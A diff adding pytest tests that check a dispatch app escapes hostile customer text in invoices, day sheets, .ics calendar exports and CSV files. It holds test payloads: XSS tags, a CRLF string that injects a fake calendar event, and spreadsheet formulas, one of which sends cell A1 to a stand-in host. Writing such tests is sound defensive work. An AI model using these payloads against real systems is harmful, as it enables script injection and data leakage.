@@ -1,0 +1,90 @@
+"""Hostile customer text (HTML/JS, formulas) is shown as text in invoices, exports and CSV files.
+
+Already covered elsewhere (not repeated here): invoice name with ``<script>``
+(tests/test_documents.py), day sheet customer ``<script>`` (tests/test_exports.py), map popups
+with ``<img onerror>`` and template-literal breakouts (tests/test_maps.py::
+test_customer_text_in_popups_is_escaped, test_esc_neutralises_html_and_template_literal_breakouts),
+CSV cells (tests/test_csvsafe.py). This file adds every payload in every customer field.
+"""
+
+from __future__ import annotations
+
+import csv
+from datetime import date, datetime
+from zoneinfo import ZoneInfo
+
+import pytest
+from icalendar import Calendar
+
+from dispatch import documents as dc
+from dispatch import invoices as iv
+from dispatch.exports import SheetStop, day_ics, day_sheet_html
+from dispatch.geocode import write_csv_rows
+from dispatch.storage import TZ
+from tests.storage_data import CORE_COVERAGE, diagnosed
+
+pytest_plugins = ["tests.storage_support"]
+
+IMG = "<img src=x onerror=alert(1)>"
+SCRIPT = "<script>alert(1)</script>"
+PAYLOADS = (IMG, SCRIPT)
+MTL = ZoneInfo("America/Montreal")
+
+
+def _escaped(text: str) -> str:
+    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_invoice_html_shows_hostile_name_address_and_problem_as_text(payload, db, settings):
+    """A customer whose name, address and problem are HTML gets an invoice with no live tag."""
+    req = diagnosed(
+        db, minutes=45, outcome="workshop_refused", coverage=CORE_COVERAGE,
+        name=f"N {payload}", address=f"A {payload}", problem=f"P {payload}",
+    )  # fmt: skip
+    inv = iv.issue_invoice(db, req.id, settings=settings, actor="x", at=datetime(2026, 12, 3, 15, tzinfo=TZ))
+    page = dc.invoice_html(inv, settings=settings)
+    assert payload not in page
+    assert "<img" not in page and "<script" not in page
+    assert _escaped(f"N {payload}") in page and _escaped(f"A {payload}") in page
+
+
+def _stop(payload: str) -> SheetStop:
+    t = datetime(2026, 6, 2, 9, 5, tzinfo=MTL)
+    return SheetStop(
+        rank=1, eta=t, start=t, end=t.replace(hour=10), window_start=t, window_end=t.replace(hour=11),
+        customer=f"C {payload}", phone=f"T {payload}", address=f"A {payload}",
+        lat=45.743915, lon=-73.588771, problem=f"P {payload}", travel_min=4.0, km=1.4,
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_day_sheet_shows_hostile_text_in_every_column_as_text(payload):
+    """Customer, phone, address (also in navigation links), problem and technician are escaped."""
+    html = day_sheet_html([_stop(payload)], technician=f"Tech {payload}", day=date(2026, 6, 2), company=payload)
+    assert payload not in html
+    assert "<img" not in html and "<script" not in html
+    for prefix in ("C", "T", "A", "P", "Tech"):
+        assert _escaped(f"{prefix} {payload}") in html
+
+
+@pytest.mark.parametrize("payload", [*PAYLOADS, "X\r\nBEGIN:VEVENT\r\nSUMMARY:faux"])
+def test_day_ics_keeps_hostile_text_as_one_event_property(payload):
+    """The .ics is plain text: payloads (even CRLF + BEGIN:VEVENT) stay inside one property."""
+    cal = Calendar.from_ical(day_ics([_stop(payload)], technician="Alex"))
+    events = cal.walk("VEVENT")
+    assert len(events) == 1
+    text = payload.replace("\r\n", "\n")  # line breaks survive as escaped \n inside the value
+    assert str(events[0]["summary"]) == f"1. C {text} — A {text}"
+    assert str(events[0]["location"]) == f"A {text}"
+
+
+def test_geocode_csv_writer_neutralises_formulas_in_customer_text(tmp_path):
+    """Names/addresses starting with =, +, -, @ are written with a leading apostrophe; numbers stay."""
+    out = tmp_path / "out.csv"
+    hostile = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", IMG]
+    write_csv_rows(out, ["name", "lon"], [{"name": h, "lon": "-73.6"} for h in hostile])
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["name"] for r in rows] == ["'" + h for h in hostile[:4]] + [IMG]
+    assert {r["lon"] for r in rows} == {"-73.6"}
